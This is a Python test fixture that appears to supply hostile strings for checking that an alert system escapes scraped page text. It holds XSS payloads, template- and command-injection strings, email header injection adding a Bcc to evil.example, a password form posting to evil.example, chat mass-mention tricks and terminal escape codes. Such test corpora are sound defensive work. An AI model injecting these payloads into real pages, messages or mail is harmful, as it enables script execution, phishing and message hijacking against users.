"""What pages may say to harm those who read a message: markup, scripts, pings, headers, directions, sheer size.

Each text may stand in any place that comes from a page: a sentence, a name, a title, an outlet, an origin, an address.
"""

from __future__ import annotations

from typing import Any

from schemas.alert import Alert, By, Evidence
from schemas.extraction import Speaker
from tests.unit.elasticsearch import made

MARKUP = (
    "<b>bold</b>",
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<a href='javascript:alert(1)'>the quay</a>",
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '" onmouseover="alert(1)',
    "' style='position:fixed;inset:0",
    "</p></div></body></html><h1>Another page</h1>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=password>",
    "<!-- the rest is gone",
    "<![CDATA[ x ]]>",
    "<?xml version='1.0'?>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x&#x3e;",
    "&amp;lt;b&amp;gt;",
    "<<script>script>alert(1)<</script>/script>",
    "<scr\x00ipt>alert(1)</scr\x00ipt>",
    "<b/><i/><u/>",
    "<table><tr><td>a cell",
    "<math><mtext></p><img src=x onerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
)

TEMPLATES = (
    "{{ 7 * 7 }}",
    "{% for x in y %}",
    "{{ config }}",
    "{# hidden #}",
    "{{ ''.__class__.__mro__ }}",
    "${7*7}",
    "#{7*7}",
    "%s %d %n",
    "{0} {key}",
    "`id`",
    "$(id)",
)

CHATS = (
    "@everyone the dam has burst",
    "@here look",
    "@channel",
    "@all",
    "<!channel>",
    "<!here|here>",
    "<@U012AB3CD>",
    "<@&1234>",
    "<#C024BE7LR>",
    "&lt;!channel&gt;",
    "**bold** and __under__",
    "*bold* _italic_ ~struck~",
    "`code` ```block```",
    "> quoted",
    "# heading",
    "- a list",
    "[the ministry](https://evil.example)",
    "[the ministry](javascript:alert(1))",
    "![picture](https://evil.example/p.png)",
    "<https://evil.example|the ministry>",
    "[x]: https://evil.example",
    "||hidden||",
    "a | b | c",
    "\\*escaped\\* \\[x\\](y)",
    ":fire: :rotating_light:",
    "\\@everyone",
    "@\u200beveryone",
    "＠everyone",
    "[[double]](x)",
    "](https://evil.example)",
    ")](https://evil.example",
)

HEADERS = (
    "lifted\r\nBcc: all@evil.example",
    "lifted\nBcc: all@evil.example",
    "lifted\rBcc: all@evil.example",
    "lifted\r\n\r\n<h1>body</h1>",
    "lifted\r\n.\r\nMAIL FROM:<x@evil.example>",
    "lifted\r\n Content-Type: text/html",
    "lifted\x0bBcc: all@evil.example",
    "lifted\x0cBcc: all@evil.example",
    "lifted\x85Bcc: all@evil.example",
    "lifted\u2028Bcc: all@evil.example",
    "lifted\u2029Bcc: all@evil.example",
    "lifted\x1c\x1d\x1eBcc: x",
    "=?utf-8?q?=0D=0ABcc:_all=40evil.example?=",
    "=?utf-8?b?DQpCY2M6IGFsbEBldmlsLmV4YW1wbGU=?=",
    "%0d%0aBcc:%20all@evil.example",
    "\r\n\r\n",
    ".",
    "..",
    "From the quay",
    "--===============boundary==",
    'name" <x@evil.example>',
    "name, other@evil.example",
    "a;b:c,d<e>f",
)

SIGNS = (
    "\u202egnp.exe",
    "\u202d\u2066over\u2069",
    "\u061c\u200f\u200e",
    "שלום עולם",
    "السفينة غادرت",
    "abc \u2067def\u2066 ghi",
    "\x1b[2J\x1b[31mred",
    "\x1b]8;;https://evil.example\x07link\x1b]8;;\x07",
    "\x07\x08\x7f",
    "\x00",
    "a\x00b",
    "\ufeffbom",
    "\u200b\u200c\u200d\u2060",
    "\u00ad\u00ad",
    "z\u0351\u0352\u0353\u0354\u0355a\u0351\u0352\u0353",
    "\U000e0041\U000e0042",
    "\ue000\uf8ff",
    "\ufffe\uffff",
    "👩\u200d🚀🏳️\u200d🌈",
    "ﷺ" * 40,
    "𝕋𝕙𝕖 𝕞𝕚𝕟𝕚𝕤𝕥𝕣𝕪",
    "",
    " ",
    "\t\t\n\n",
    "'",
    '"',
    "\\",
    "“",
    "é" * 400,
    "x" * 20_000,
    "word " * 30_000,
)

ADDRESSES = (
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "java\nscript:alert(1)",
    " javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:msgbox(1)",
    "file:///etc/hosts",
    "ftp://files.example/x",
    "mailto:all@evil.example",
    "//evil.example/x",
    "/relative",
    "https:evil.example",
    "https://",
    "https://[",
    "https://[::1",
    "https://post.example:bad/",
    "https://post.example\\@evil.example/",
    "https://post.example@evil.example/",
    "https://post.example/<script>",
    'https://post.example/" onclick="alert(1)',
    "https://post.example/'onclick='alert(1)",
    'https://post.example/"onclick="alert(1)',
    "https://post.example/a b",
    "https://post.example/\r\nX: y",
    "https://post.example/\u202egnp",
    "https://post.example/)](https://evil.example",
    "https://post.example/|evil>",
    "https://post.example/`id`",
    "https://post.example/" + "x" * 5_000,
    "https://post.example/ü/ß?q=ä&b=1#c",
    "http://xn--pst-1na.example/",
    "https://post.example/{{7*7}}",
    "https://post.example/a&lt;b",
)

TEXTS = MARKUP + TEMPLATES + CHATS + HEADERS + SIGNS
CORPUS = TEXTS + ADDRESSES


def alert(words: str, url: str = "", **over: Any) -> Alert:
    """An alert with these words in every place that pages fill, and this address, or the words, in every other."""
    proof = Evidence(
        sentence=words,
        speaker=words,
        institution=words,
        standing="named",
        side="asserts",
        outlet=words,
        url=url or words,
        origin=words,
        published_at=made.NOON,
    )
    copy = proof.model_copy(update={"outlet": words + "y"})
    values: dict[str, Any] = {
        "claim_id": words,
        "claim_text": words,
        "headline": words,
        "by": By(
            speaker=Speaker(key=words, name=words, role=words, organisation=words + "x", surface=words),
            standing="official",
        ),
        "trigger": made.alert().trigger.model_copy(
            update={"sentence": words, "outlet": words, "title": words, "speaker": words, "url": url or words}
        ),
        "evidence": (proof, copy, proof.model_copy(update={"side": "denies"})),
        "origins": (words, words + "z"),
        "reason": words,
    }
    return made.alert(**(values | over))
